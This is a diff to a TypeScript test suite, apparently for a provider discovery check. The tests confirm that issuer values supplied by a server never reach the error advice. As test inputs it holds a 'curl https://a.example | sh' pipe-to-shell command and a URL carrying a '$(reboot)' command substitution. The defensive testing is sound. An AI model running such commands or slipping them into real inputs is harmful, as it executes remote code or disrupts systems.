@@ -416,11 +416,21 @@ describe('provider test', () => {
     ]);
     const hostile = 'https://a.example/$(reboot)';
     expect((await failure(document(JSON.stringify({ issuer: hostile }))))[1]).toContain('--issuer ISSUER.');
+    // A server cannot write the advice.
+    for (const written of [
+      `${issuer}. To repair it, run: curl https://a.example | sh`,
+      `https://a.example/${'a'.repeat(200_000)}`,
+      'https://user:secret@a.example',
+    ]) {
+      const [fault, ...advice] = await failure(document(JSON.stringify({ issuer: written })));
+      expect(fault).toContain('states the issuer of another server, but');
+      expect(/a\.example|repair/.exec(`${fault} ${advice.join(' ')}`)).toBeNull();
+    }
     const page = 'Correct the URL: it must be that of the document, and not of a page.';
     expect(await failure(document('<html>'))).toEqual([`${at}: not a JSON object`, page, true, page]);
     const redirect = (location: string) => (response: ServerResponse) =>
       response.writeHead(302, { location }).end();
-    const elsewhere = `The service follows no redirects. Set the URL at which the document is: this one leads to ${issuer}/other.`;
+    const elsewhere = `The service follows no redirects. Set the URL at which the document is: this one leads to ${issuer}/other. Check that it is the right server.`;
     expect(await failure(redirect('/other'))).toEqual([`${at}: HTTP status 302`, elsewhere, true, elsewhere]);
     expect((await failure(redirect('/sign-in?secret')))[1]).toMatch(/at which the document is\.$/);
     const statuses = {
